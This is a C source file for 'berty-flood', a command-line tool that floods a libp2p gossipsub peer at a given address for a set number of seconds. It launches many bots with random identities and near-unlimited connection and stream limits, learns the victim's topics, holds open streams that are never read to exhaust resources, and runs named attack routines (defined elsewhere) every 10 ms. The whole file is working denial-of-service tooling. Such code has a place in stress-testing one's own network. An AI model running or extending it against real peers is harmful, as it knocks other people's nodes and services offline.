/* flood.c: `berty-flood ATTACK ADDRESS SECONDS`. */
#include "flood/flood.h"

#include <stdio.h>
#include <stdlib.h>

#include "base/clock.h"
#include "codec/protobuf.h"
#include "p2p/gossipsub_message.h"
#include "world/os/world_os.h"

enum { TICK_MS = 10 };

#define MESHSUB "/meshsub/1.1.0"

/* --- what the victim tells ------------------------------------------------ */

static void
learn_topic(struct flood * f, struct slice name)
{
	size_t i;

	for (i = 0; i < f->n_topics; i++)
		if (slice_equal(slice_text(f->topics[i]), name))
			return;
	if (f->n_topics == FLOOD_TOPICS)
		return;
	f->topics[f->n_topics++] = strndup((const char *)name.p, name.n);
}

static int
on_rpc(void * user, struct slice bytes)
{
	struct bot * b = user;
	Libp2p__Pubsub__RPC * rpc = gossipsub_message_decode(bytes);
	size_t i;

	if (rpc == NULL)
		return (0);
	for (i = 0; i < rpc->n_subscriptions; i++)
		learn_topic(b->f, protobuf_slice(
		    rpc->subscriptions[i]->topicid));
	protobuf_free(rpc);
	return (0);
}

static void
on_gossip(void * user, struct stream * s, struct slice bytes)
{
	struct bot * b = user;

	(void)s;
	(void)frame_feed(&b->frames, bytes, on_rpc, b);
}

static void
on_gossip_closed(void * user, struct stream * s, int status)
{
	struct bot * b = user;

	(void)s;
	(void)status;
	frame_free(&b->frames);
}

static void
accept_gossip(void * user, struct stream * s, const char * protocol)
{
	static const struct stream_handler handler = {.data = on_gossip,
	    .closed = on_gossip_closed};

	(void)protocol;
	stream_handle(s, &handler, user);
}

/* Taken and never read. */
static void
accept_deaf(void * user, struct stream * s, const char * protocol)
{
	static const struct stream_handler deaf = {0};

	(void)protocol;
	stream_handle(s, &deaf, user);
	stream_pause(s, true);
}

const char *
flood_topic(const struct bot * b)
{
	const struct flood * f = b->f;

	return (f->n_topics == 0 ? NULL : f->topics[b->count % f->n_topics]);
}

/* --- bots ------------------------------------------------------------------ */

void
flood_connect(struct bot * b)
{
	(void)host_connect_address(b->h, buffer_all(&b->f->multiaddr));
}

static void
on_up(void * user, const struct peer_id * peer)
{
	struct bot * b = user;

	(void)peer;
	b->up = true;
	if (b->f->attack->up != NULL)
		b->f->attack->up(b);
}

static void
on_down(void * user, const struct peer_id * peer)
{
	struct bot * b = user;

	(void)peer;
	b->up = false;
	b->out = NULL;
	if (b->f->attack->connections > 0)
		flood_connect(b);
}

static void
on_failed(void * user, const struct peer_id * peer, int status)
{
	(void)user;
	(void)peer;
	(void)status;
}

static int
bot_start(struct flood * f, size_t number)
{
	struct host_config config = {.agent = "flood", .limits = {
	    .connections = 1024, .half_open = 1024,
	    .streams_per_connection = 65535, .streams = 1 << 24,
	    .accept_backlog = 65535, .connections_per_peer = 1024}};
	struct bot * b = &f->bots[number];
	uint8_t seed[32];
	unsigned i;

	world_random(f->w, seed, sizeof(seed));
	ed25519_from_seed(&config.key, seed);
	b->f = f;
	b->number = number;
	b->frames.max = GOSSIPSUB_RPC_MAX;
	if ((b->h = host_new(f->w, &config)) == NULL)
		return (-1);
	b->watcher = (struct host_watcher){.up = on_up, .down = on_down,
	    .failed = on_failed, .user = b};
	host_watch(b->h, &b->watcher);
	if (host_serve(b->h, MESHSUB, accept_gossip, b) != 0)
		return (-1);
	if (f->attack->serves != NULL &&
	    host_serve(b->h, f->attack->serves, accept_deaf, b) != 0)
		return (-1);
	for (i = 0; i < f->attack->connections; i++)
		flood_connect(b);
	return (0);
}

static void
on_out_closed(void * user, struct stream * s, int status)
{
	struct bot * b = user;

	(void)status;
	if (b->out == s)
		b->out = NULL;
}

struct stream *
flood_stream(struct bot * b, const char * protocol)
{
	static const struct stream_handler handler = {
	    .closed = on_out_closed};
	const char * protocols[] = {protocol, NULL};

	if (b->out == NULL && stream_open(b->h, &b->f->address.peer, protocols,
	    &handler, b, &b->out) != 0)
		b->out = NULL;
	return (b->out);
}

void
flood_say(struct bot * b, const char * protocol, struct buffer * message)
{
	struct buffer framed = {0};
	struct stream * s = flood_stream(b, protocol);

	buffer_uvarint(&framed, message->n);
	buffer_slice(&framed, buffer_all(message));
	if (s != NULL && stream_queued(s) < 512 * 1024 &&
	    stream_write(s, buffer_all(&framed)) == 0)
		b->f->done++;
	buffer_free(&framed);
	buffer_free(message);
}

/* --- the whole -------------------------------------------------------------- */

static void
on_tick(struct world_timer * timer)
{
	struct flood * f = list_entry(timer, struct flood, tick);
	struct bot * b;
	size_t i;

	if (world_now(f->w) >= f->until) {
		world_os_stop(f->w);
		return;
	}
	for (i = 0; i < f->attack->bots; i++) {
		b = &f->bots[i];
		if (b->up || f->attack->connections == 0)
			f->attack->tick(b);
		else if (!host_connected(b->h, &f->address.peer) &&
		    b->h->n_connections.used == 0)
			flood_connect(b);
	}
	(void)world_timer_start(f->w, &f->tick, TICK_MS);
}

static const struct attack *
find(const struct attack * list, const char * name)
{
	for (; list->name != NULL; list++)
		if (strcmp(list->name, name) == 0)
			return (list);
	return (NULL);
}

static const struct attack *
find_attack(const char * name)
{
	const struct attack * a;

	if ((a = find(flood_wire, name)) == NULL &&
	    (a = find(flood_streams, name)) == NULL)
		a = find(flood_messages, name);
	return (a);
}

static int
start(struct flood * f, char ** argv)
{
	size_t i;

	if ((f->attack = find_attack(argv[1])) == NULL ||
	    multiaddr_decode(&f->multiaddr, slice_text(argv[2])) != 0 ||
	    multiaddr_to_tcp(buffer_all(&f->multiaddr), &f->address) != 0 ||
	    (f->w = world_os_new(NULL)) == NULL)
		return (-1);
	f->until = clock_add(world_now(f->w),
	    clock_mul(strtoul(argv[3], NULL, 10), 1000));
	if ((f->bots = calloc(f->attack->bots, sizeof(*f->bots))) == NULL)
		return (-1);
	for (i = 0; i < f->attack->bots; i++)
		if (bot_start(f, i) != 0)
			return (-1);
	if (f->attack->begin != NULL)
		f->attack->begin(f);
	f->tick.fire = on_tick;
	return (world_timer_start(f->w, &f->tick, TICK_MS));
}

int
main(int argc, char ** argv)
{
	struct flood f = {0};

	if (argc != 4 || crypto_setup() != 0 || start(&f, argv) != 0) {
		(void)fprintf(stderr,
		    "usage: berty-flood ATTACK ADDRESS SECONDS\n");
		return (2);
	}
	world_os_run(f.w);
	(void)printf("%llu\n", (unsigned long long)f.done);
	/* The process ends: what is open ends with it. */
	return (f.done > 0 ? 0 : 1);
}
